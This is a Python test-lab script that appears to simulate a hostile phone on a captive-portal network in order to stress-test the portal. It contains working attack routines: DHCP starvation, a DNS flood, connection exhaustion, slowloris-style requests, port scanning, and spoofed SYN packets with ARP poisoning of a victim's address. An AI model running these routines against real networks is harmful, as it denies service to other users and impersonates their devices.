"""What a bad phone does, from inside its namespace; prints what came of it as JSON. Started by floods.py.

`python -m tests.lab.flood KIND SECONDS [MORE…]`
"""

import contextlib
import json
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

_PORTAL, _CAPTURE, _EVERYBODY = "10.87.0.1", "198.51.100.1", "255.255.255.255"
_RADIO = b"wlan0"
_SERVICES = (21, 22, 23, 25, 111, 139, 443, 445, 631, 853, 1883, 3306, 5000, 5432, 6379, 8000, 8080, 8443, 9000)

Told = dict[str, int]


def _for(seconds: float) -> Iterator[int]:
    until, number = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        yield number
        number += 1


def leases(seconds: float) -> Told:
    """Asks for addresses, each time as another card."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, _RADIO)
        line.bind(("0.0.0.0", 68))
        for number in _for(seconds):
            card = b"\x02\0" + struct.pack(">I", number)
            head = struct.pack(">BBBBIHH16s16s", 1, 1, 6, 0, number, 0, 0x8000, b"", card)
            wish = socket.inet_aton(f"10.87.{number >> 8 & 15}.{number & 255}")
            with contextlib.suppress(OSError):
                line.sendto(
                    head + bytes(192) + b"\x63\x82\x53\x63\x35\x01\x03\x32\x04" + wish + b"\xff", (_EVERYBODY, 67)
                )
                sent += 1
    return {"sent": sent}


def names(seconds: float) -> Told:
    """Asks for names as fast as it can."""
    question = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\1a\0" + struct.pack(">HH", 1, 1)
    sent = got = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.connect((_PORTAL, 53))
        line.settimeout(0)
        for _ in _for(seconds):
            with contextlib.suppress(OSError):
                for _ in range(200):
                    line.send(question)
                    sent += 1
            with contextlib.suppress(OSError):
                while line.recv(512):
                    got += 1
    return {"sent": sent, "answered": got}


def _open(first: bytes, count: int, seconds: float) -> Told:
    """Opens so many connections at once and holds them, a byte a second on each."""
    lines: list[socket.socket] = []
    for _ in range(count):
        line = socket.socket()
        line.setblocking(False)
        line.connect_ex((_PORTAL, 80))
        lines.append(line)
    time.sleep(1)
    held = [line for line in lines if _sends(line, first)]
    for _ in range(int(seconds) - 1):
        time.sleep(1)
        held = [line for line in held if _sends(line, b"x" if first else b"")]
    return {"opened": count, "held": len(held)}


def _sends(line: socket.socket, data: bytes) -> bool:
    try:
        line.getpeername()
        if data:
            line.send(data)
    except OSError:
        return False
    return True


def connections(seconds: float) -> Told:
    """A thousand, on which nothing is said."""
    return _open(b"", 1000, seconds)


def slowly(seconds: float) -> Told:
    """A thousand, each with a request that never ends."""
    return _open(b"GET /help HTTP/1.1\r\nX: ", 1000, seconds)


def services(seconds: float) -> Told:
    """Tries what else may be there."""
    told = {"tried": 0, "open": 0, "silent": 0}
    for number in _for(seconds):
        told["tried"] += 1
        address, port = (_PORTAL, _CAPTURE)[number % 2], _SERVICES[number // 2 % len(_SERVICES)]
        try:
            socket.create_connection((address, port), timeout=1).close()
            told["open"] += 1
        except ConnectionRefusedError:
            pass
        except OSError:
            told["silent"] += 1
    return told


def staff(seconds: float) -> Told:
    """Tries the door of the staff."""
    told = {"tried": 0, "open": 0}
    for _ in _for(seconds):
        told["tried"] += 1
        with contextlib.suppress(OSError):
            socket.create_connection((_PORTAL, 8443), timeout=1).close()
            told["open"] += 1
    return told


def borrowed(seconds: float, victim: str, card: str) -> Told:
    """Begins connections as if it were another phone, and says for all to hear that the other's address is its own."""
    own = _own_card()
    begins = [_beginning(own, bytes.fromhex(card.replace(":", "")), victim, 20_000 + n) for n in range(1000)]
    claim = _claim(own, victim)
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as line:
        line.bind((_RADIO.decode(), 0))
        for number in _for(seconds):
            with contextlib.suppress(OSError):
                line.send(begins[number % 1000])
                if number % 50 == 0:
                    line.send(claim)
                sent += 1
    return {"sent": sent}


def _own_card() -> bytes:
    with open("/sys/class/net/wlan0/address", encoding="ascii") as told:  # noqa: PTH123 - a few lines of a script
        return bytes.fromhex(told.read().strip().replace(":", ""))


def _sum(data: bytes) -> int:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def _beginning(own: bytes, box: bytes, victim: str, port: int) -> bytes:
    source, there = socket.inet_aton(victim), socket.inet_aton(_PORTAL)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, port, 0, 64, 6, 0, source, there)
    head = head[:10] + struct.pack(">H", _sum(head)) + head[12:]
    part = struct.pack(">HHIIBBHHH", port, 80, 1, 0, 0x50, 2, 1024, 0, 0)
    both = _sum(source + there + struct.pack(">BBH", 0, 6, len(part)) + part)
    return box + own + b"\x08\0" + head + part[:16] + struct.pack(">H", both) + part[18:]


def _claim(own: bytes, victim: str) -> bytes:
    address = socket.inet_aton(victim)
    return b"\xff" * 6 + own + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + own + address + own + address


_KINDS: dict[str, Callable[..., Told]] = {
    kind.__name__: kind for kind in (leases, names, connections, slowly, services, staff, borrowed)
}

if __name__ == "__main__":
    print(json.dumps(_KINDS[sys.argv[1]](float(sys.argv[2]), *sys.argv[3:])))
